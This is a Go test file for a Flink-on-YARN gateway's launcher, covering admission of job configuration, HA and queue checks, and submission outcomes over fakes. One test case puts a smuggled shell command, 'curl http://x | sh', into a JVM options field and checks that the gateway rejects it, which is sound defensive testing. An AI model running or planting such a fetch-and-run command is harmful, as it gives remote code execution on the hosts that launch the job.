package launch

import (
	"bytes"
	"context"
	"errors"
	"io"
	"io/fs"
	"log/slog"
	"maps"
	"path"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/yarngate/yarngate/api"
	"github.com/yarngate/yarngate/flink"
	"github.com/yarngate/yarngate/hdfs"
	"github.com/yarngate/yarngate/ident"
	"github.com/yarngate/yarngate/yarnclient"
)

// uriFiles is a fileStore that only qualifies paths.
type uriFiles struct{ fileStore }

func (uriFiles) URI(name string) string { return "hdfs://nn:8020" + name }
func (uriFiles) FSURI() string          { return "hdfs://nn:8020" }

// queueRM knows the leaf queues of a capacity scheduler.
type queueRM struct{ rmClient }

func (queueRM) Queues(context.Context) (yarnclient.Queues, error) {
	return yarnclient.Queues{Scheduler: "capacityScheduler", Leaves: []string{"etl", "root.etl"}}, nil
}

func testLauncher(ha *HA) *Launcher {
	return &Launcher{opts: Options{HA: ha, Files: uriFiles{}, RM: queueRM{}, StagingRoot: "/staging", Logger: slog.New(slog.DiscardHandler)}}
}

// admit runs the admission pipeline on a prepared application (or session) launch.
func admit(t *testing.T, l *Launcher, mode flink.Mode, multi bool, cfg map[string]string, queue string) (*Prepared, error) {
	t.Helper()
	p := &Prepared{multi: multi, launch: flink.LaunchSpec{Mode: mode, FlinkConfig: maps.Clone(cfg), Queue: queue, Tags: []string{ident.TagGateway}}}
	if p.launch.FlinkConfig == nil {
		p.launch.FlinkConfig = map[string]string{}
	}
	for _, s := range admission {
		if err := s.admit(t.Context(), l, p); err != nil {
			return p, err
		}
	}
	return p, nil
}

func TestAdmission(t *testing.T) {
	ha := &HA{Quorum: "zk:2181", PathRoot: "/yarngate-flink", StorageDir: "/staging/ha", SessionTimeout: 10 * time.Second}
	const archive = "hdfs://nn:8020/staging/archive"
	tests := []struct {
		name       string
		ha         *HA
		mode       flink.Mode
		multi      bool
		config     map[string]string
		queue      string
		wantHA     *flink.HighAvailability
		wantConfig map[string]string // the gateway's configuration (GatewayConfig)
		wantTags   []string
		wantErr    string // a SpecError field, or "queue" for ErrUnknownQueue
	}{
		{name: "one job, gateway without HA", mode: flink.ModeApplication,
			wantConfig: map[string]string{"execution.submit-failed-job-on-application-error": "true", "jobmanager.archive.fs.dir": archive},
			wantTags:   []string{ident.TagGateway}},
		{name: "one job with HA", ha: ha, mode: flink.ModeApplication,
			wantHA: &flink.HighAvailability{Quorum: "zk:2181", PathRoot: "/yarngate-flink", StorageDir: "hdfs://nn:8020/staging/ha"},
			wantConfig: map[string]string{"execution.submit-failed-job-on-application-error": "true", "jobmanager.archive.fs.dir": archive,
				"high-availability.zookeeper.client.session-timeout": "10000"},
			wantTags: []string{ident.TagGateway, ident.TagHA}},
		{name: "session with HA", ha: ha, mode: flink.ModeSession,
			wantHA:     &flink.HighAvailability{Quorum: "zk:2181", PathRoot: "/yarngate-flink", StorageDir: "hdfs://nn:8020/staging/ha"},
			wantConfig: map[string]string{"jobmanager.archive.fs.dir": archive, "high-availability.zookeeper.client.session-timeout": "10000"},
			wantTags:   []string{ident.TagGateway, ident.TagHA}},
		{name: "job opts out of HA", ha: ha, mode: flink.ModeApplication, config: map[string]string{"high-availability.type": "NONE"},
			wantConfig: map[string]string{"execution.submit-failed-job-on-application-error": "true", "jobmanager.archive.fs.dir": archive},
			wantTags:   []string{ident.TagGateway}},
		{name: "opt-out with the legacy key", ha: ha, mode: flink.ModeApplication, config: map[string]string{"high-availability": "none"},
			wantErr: "flinkConfig.high-availability"},
		{name: "job asks for zookeeper HA itself", ha: ha, mode: flink.ModeApplication,
			config: map[string]string{"high-availability.type": "zookeeper"}, wantErr: "flinkConfig.high-availability.type"},
		{name: "job's own session timeout", ha: ha, mode: flink.ModeApplication,
			config:  map[string]string{"high-availability.zookeeper.client.session-timeout": "30 s"},
			wantErr: "flinkConfig.high-availability.zookeeper.client.session-timeout"},
		{name: "job's own storage", ha: ha, mode: flink.ModeApplication,
			config: map[string]string{"high-availability.storageDir": "hdfs://other/ha"}, wantErr: "flinkConfig.high-availability.storageDir"},
		{name: "job's own archive", mode: flink.ModeApplication,
			config: map[string]string{"jobmanager.archive.fs.dir": "hdfs://other/archive"}, wantErr: "flinkConfig.jobmanager.archive.fs.dir"},
		{name: "job sets the path root", ha: ha, mode: flink.ModeApplication,
			config: map[string]string{"high-availability.zookeeper.path.root": "/mine"}, wantErr: "flinkConfig.high-availability.zookeeper.path.root"},
		{name: "job sets the cluster id", ha: ha, mode: flink.ModeApplication,
			config: map[string]string{"high-availability.cluster-id": "c1"}, wantErr: "flinkConfig.high-availability.cluster-id"},
		{name: "several jobs: no HA, no fixed failure job, archive per application at submission", ha: ha, mode: flink.ModeApplication, multi: true,
			wantConfig: map[string]string{}, wantTags: []string{ident.TagGateway, ident.TagMultipleJobs}},
		{name: "several jobs with HA asked for", ha: ha, mode: flink.ModeApplication, multi: true,
			config: map[string]string{"high-availability.type": "zookeeper"}, wantErr: "flinkConfig.high-availability.type"},
		{name: "several jobs with submit-failed-job", mode: flink.ModeApplication, multi: true,
			config:  map[string]string{"execution.submit-failed-job-on-application-error": "false"},
			wantErr: "flinkConfig.execution.submit-failed-job-on-application-error"},
		{name: "JVM options", mode: flink.ModeApplication,
			config: map[string]string{"env.java.opts.jobmanager": "-Dx=1; curl http://x | sh #"}, wantErr: "flinkConfig.env.java.opts.jobmanager"},
		{name: "a gateway tag", mode: flink.ModeApplication,
			config: map[string]string{"yarn.tags": "team-a,yarngate-idem:0123"}, wantErr: "flinkConfig.yarn.tags"},
		{name: "tags and an environment variable of the job's own", mode: flink.ModeApplication,
			config:     map[string]string{"yarn.tags": "team-a", "containerized.taskmanager.env.MALLOC_ARENA_MAX": "4"},
			wantConfig: map[string]string{"execution.submit-failed-job-on-application-error": "true", "jobmanager.archive.fs.dir": archive},
			wantTags:   []string{ident.TagGateway}},
		{name: "known queue", mode: flink.ModeApplication, queue: "etl",
			wantConfig: map[string]string{"execution.submit-failed-job-on-application-error": "true", "jobmanager.archive.fs.dir": archive},
			wantTags:   []string{ident.TagGateway}},
		{name: "unknown queue", mode: flink.ModeApplication, queue: "nope", wantErr: "queue"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p, err := admit(t, testLauncher(tc.ha), tc.mode, tc.multi, tc.config, tc.queue)
			switch {
			case tc.wantErr == "queue":
				if !errors.Is(err, ErrUnknownQueue) || !strings.Contains(err.Error(), `"nope" is not a leaf queue of the capacityScheduler`) {
					t.Fatalf("err = %v, want ErrUnknownQueue", err)
				}
				return
			case tc.wantErr != "":
				var se *api.SpecError
				if !errors.As(err, &se) || !slices.ContainsFunc(se.Problems, func(p api.FieldProblem) bool { return p.Field == tc.wantErr }) {
					t.Fatalf("err = %v, want a SpecError on %s", err, tc.wantErr)
				}
				return
			case err != nil:
				t.Fatal(err)
			}
			if !reflect.DeepEqual(p.launch.HA, tc.wantHA) {
				t.Errorf("HA = %+v, want %+v", p.launch.HA, tc.wantHA)
			}
			if !maps.Equal(p.launch.GatewayConfig, tc.wantConfig) && len(p.launch.GatewayConfig)+len(tc.wantConfig) > 0 {
				t.Errorf("gateway config = %v, want %v", p.launch.GatewayConfig, tc.wantConfig)
			}
			if !maps.Equal(p.launch.FlinkConfig, tc.config) && len(p.launch.FlinkConfig)+len(tc.config) > 0 {
				t.Errorf("flinkConfig = %v, want the request's %v", p.launch.FlinkConfig, tc.config)
			}
			if !slices.Equal(p.launch.Tags, tc.wantTags) {
				t.Errorf("tags = %v, want %v", p.launch.Tags, tc.wantTags)
			}
		})
	}
}

// submitRM accepts or fails submissions and reports applications.
type submitRM struct {
	rmClient
	submitErr   error
	known       bool // the ResourceManager has the application, whatever Submit said
	submitted   *yarnclient.SubmissionContext
	submittedAs string // the user of the call (yarnclient.AsUser)
	newAs       string
}

func (f *submitRM) NewApplication(ctx context.Context) (*yarnclient.NewApplication, error) {
	f.newAs = yarnclient.UserFrom(ctx)
	return &yarnclient.NewApplication{ApplicationID: "application_1700000000000_0011",
		MaximumResourceCapability: yarnclient.Resource{MemoryMB: 8192, VCores: 8}}, nil
}

func (f *submitRM) Submit(ctx context.Context, sc *yarnclient.SubmissionContext) error {
	f.submitted, f.submittedAs = sc, yarnclient.UserFrom(ctx)
	return f.submitErr
}

func (f *submitRM) App(_ context.Context, id string) (*yarnclient.App, error) {
	if f.known {
		return &yarnclient.App{ID: id, State: yarnclient.StateAccepted}, nil
	}
	return nil, yarnclient.ErrNotFound
}

// TestSubmitSettlesUnknownOutcomes: a submission whose answer was lost is a launch when the ResourceManager
// has the application, a SubmitError when it does not; a refusal is ErrYARNRejected; failures remove the
// staged files.
func TestSubmitSettlesUnknownOutcomes(t *testing.T) {
	tests := []struct {
		name    string
		err     error
		known   bool
		want    error // nil: launched
		removed bool
	}{
		{"accepted", nil, true, nil, false},
		{"answer lost, application exists", errors.New("read: connection reset"), true, nil, false},
		{"answer lost, no application", errors.New("read: connection reset"), false, &SubmitError{}, true},
		{"refused", yarnclient.ErrBadRequest, false, ErrYARNRejected, true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rm := &submitRM{submitErr: tc.err, known: tc.known}
			files := &stagingFiles{}
			l := &Launcher{opts: Options{RM: rm, Files: files, StagingRoot: "/staging", User: "yarngate", Logger: slog.New(slog.DiscardHandler)}}
			p := preparedForTest(t)
			got, err := l.Submit(t.Context(), p, &yarnclient.NewApplication{ApplicationID: "application_1700000000000_0007",
				MaximumResourceCapability: yarnclient.Resource{MemoryMB: 8192, VCores: 8}})
			switch want := tc.want.(type) {
			case nil:
				if err != nil || got.ApplicationID != "application_1700000000000_0007" || got.FlinkJobID != "0000018bcfe568000000000000000007" {
					t.Fatalf("Submit = %+v, %v", got, err)
				}
			case *SubmitError:
				var se *SubmitError
				if !errors.As(err, &se) || se.ApplicationID != "application_1700000000000_0007" {
					t.Fatalf("err = %v, want a SubmitError", err)
				}
			default:
				if !errors.Is(err, want) {
					t.Fatalf("err = %v, want %v", err, want)
				}
			}
			if tc.removed != slices.Contains(files.removed, "/staging/.flink/application_1700000000000_0007") {
				t.Fatalf("removed %v", files.removed)
			}
			if rm.submitted == nil || !slices.Contains(rm.submitted.ApplicationTags, ident.TagGateway) {
				t.Fatalf("submitted %+v", rm.submitted)
			}
		})
	}
}

// stagingFiles is an in-memory file system: enough for uploading a distribution and staging a launch.
type stagingFiles struct {
	fileStore
	mu      sync.Mutex
	files   map[string][]byte
	dirs    map[string]bool
	modes   map[string]fs.FileMode
	removed []string
	// as records the user (hdfs.AsUser) each path was created, made or changed as.
	as map[string]string
}

func (f *stagingFiles) init() {
	if f.files == nil {
		f.files, f.dirs, f.modes, f.as = map[string][]byte{}, map[string]bool{"/": true}, map[string]fs.FileMode{"/": 0o755}, map[string]string{}
	}
}

func (f *stagingFiles) Stat(_ context.Context, name string) (hdfs.FileInfo, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.init()
	if b, ok := f.files[name]; ok {
		return hdfs.FileInfo{Size: int64(len(b)), ModTime: time.UnixMilli(1700000000000), Mode: f.modes[name]}, nil
	}
	if f.dirs[name] {
		return hdfs.FileInfo{Mode: fs.ModeDir | f.modes[name], ModTime: time.UnixMilli(1700000000000)}, nil
	}
	return hdfs.FileInfo{}, fs.ErrNotExist
}

func (f *stagingFiles) MkdirAll(ctx context.Context, name string, perm fs.FileMode) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.init()
	for p := name; p != "/" && p != "."; p = path.Dir(p) {
		if !f.dirs[p] {
			f.dirs[p], f.modes[p] = true, perm
		}
	}
	f.as[name] = hdfs.UserFrom(ctx)
	return nil
}

type memWriter struct {
	bytes.Buffer
	done func([]byte)
}

func (w *memWriter) Close() error { w.done(w.Bytes()); return nil }

func (f *stagingFiles) Create(ctx context.Context, name string) (io.WriteCloser, error) {
	return &memWriter{done: func(b []byte) {
		f.mu.Lock()
		defer f.mu.Unlock()
		f.init()
		f.files[name], f.modes[name] = append([]byte(nil), b...), 0o644
		f.as[name] = hdfs.UserFrom(ctx)
	}}, nil
}

func (f *stagingFiles) Open(_ context.Context, name string) (io.ReadCloser, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.init()
	b, ok := f.files[name]
	if !ok {
		return nil, fs.ErrNotExist
	}
	return io.NopCloser(bytes.NewReader(b)), nil
}

func (f *stagingFiles) Rename(_ context.Context, oldName, newName string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.init()
	if _, ok := f.files[newName]; ok || f.dirs[newName] {
		return fs.ErrExist
	}
	for k, v := range f.files {
		if k == oldName || strings.HasPrefix(k, oldName+"/") {
			delete(f.files, k)
			f.files[newName+strings.TrimPrefix(k, oldName)] = v
		}
	}
	for k, v := range f.modes {
		if k == oldName || strings.HasPrefix(k, oldName+"/") {
			f.modes[newName+strings.TrimPrefix(k, oldName)] = v
		}
	}
	for k := range f.dirs {
		if k == oldName || strings.HasPrefix(k, oldName+"/") {
			delete(f.dirs, k)
			f.dirs[newName+strings.TrimPrefix(k, oldName)] = true
		}
	}
	return nil
}

func (f *stagingFiles) Chmod(_ context.Context, name string, perm fs.FileMode) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.init()
	f.modes[name] = perm
	return nil
}

func (f *stagingFiles) RemoveAll(_ context.Context, name string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.init()
	f.removed = append(f.removed, name)
	for k := range f.files {
		if k == name || strings.HasPrefix(k, name+"/") {
			delete(f.files, k)
		}
	}
	return nil
}

func (f *stagingFiles) URI(name string) string { return "hdfs://nn:8020" + name }
func (f *stagingFiles) FSURI() string          { return "hdfs://nn:8020" }

// preparedForTest prepares an application launch of a staged jar over fakes.
func preparedForTest(t *testing.T) *Prepared {
	t.Helper()
	files := &stagingFiles{}
	l, err := New(Options{RM: queueRM{}, Files: files, Jars: stagedJar{}, FlinkHomes: []string{fakeFlinkHome(t, "2.2.1")},
		FlinkLibRoot: "/flink-libs", User: "yarngate", StagingRoot: "/staging", Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	p, err := l.Prepare(t.Context(), Spec{Kind: Job, Name: "sum", Target: "application", JarID: strings.Repeat("ab", 32),
		JobManagerMemory: "1024m", TaskManagerMemory: "1024m"})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// stagedJar finds every jar id.
type stagedJar struct{}

func (stagedJar) Get(_ context.Context, id string) (hdfs.Jar, error) {
	return hdfs.Jar{ID: id, URI: "hdfs://nn:8020/staging/jars/" + id + ".jar", Size: 12, ModTime: time.UnixMilli(1), MainClass: "dev.Example"}, nil
}

// TestSubmitSeveralJobs: an application with several jobs has no fixed job id, no failed-job placeholder,
// and an archive directory of its own; one job has the fixed id and the shared archive.
func TestSubmitSeveralJobs(t *testing.T) {
	for _, multi := range []bool{false, true} {
		files := &stagingFiles{}
		l, err := New(Options{RM: &submitRM{known: true}, Files: files, Jars: stagedJar{}, FlinkHomes: []string{fakeFlinkHome(t, "2.2.1")},
			FlinkLibRoot: "/flink-libs", User: "yarngate", StagingRoot: "/staging", Logger: slog.New(slog.DiscardHandler)})
		if err != nil {
			t.Fatal(err)
		}
		p, err := l.Prepare(t.Context(), Spec{Kind: Job, Name: "two", Target: "application", JarID: strings.Repeat("ab", 32),
			MultipleJobs: multi, JobManagerMemory: "1024m", TaskManagerMemory: "1024m"})
		if err != nil {
			t.Fatal(err)
		}
		const app = "application_1700000000000_0009"
		got, err := l.Submit(t.Context(), p, &yarnclient.NewApplication{ApplicationID: app,
			MaximumResourceCapability: yarnclient.Resource{MemoryMB: 8192, VCores: 8}})
		if err != nil {
			t.Fatal(err)
		}
		cfg := string(files.files["/staging/.flink/"+app+"/config.yaml"])
		fixed := strings.Contains(cfg, "$internal.pipeline.job-id")
		perApp := strings.Contains(cfg, "hdfs://nn:8020/staging/archive/"+app)
		failedJob := strings.Contains(cfg, "submit-failed-job-on-application-error")
		if got.MultipleJobs != multi || (got.FlinkJobID == "") != multi || fixed == multi || perApp != multi || failedJob == multi {
			t.Errorf("multipleJobs %v: launched %+v; config has fixed id %v, own archive %v, failed-job placeholder %v:\n%s",
				multi, got, fixed, perApp, failedJob, cfg)
		}
	}
}
